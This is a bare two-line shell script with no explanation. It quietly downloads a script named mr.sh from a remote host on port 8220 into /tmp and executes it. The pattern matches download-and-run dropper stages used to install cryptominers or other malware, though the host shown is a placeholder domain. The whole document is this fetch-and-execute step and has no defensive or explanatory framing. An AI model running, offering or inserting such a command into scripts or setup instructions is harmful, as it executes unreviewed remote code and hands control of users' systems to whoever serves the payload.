#!/bin/sh
wget -q http://files.example.com:8220/mr.sh -O /tmp/mr.sh && sh /tmp/mr.sh
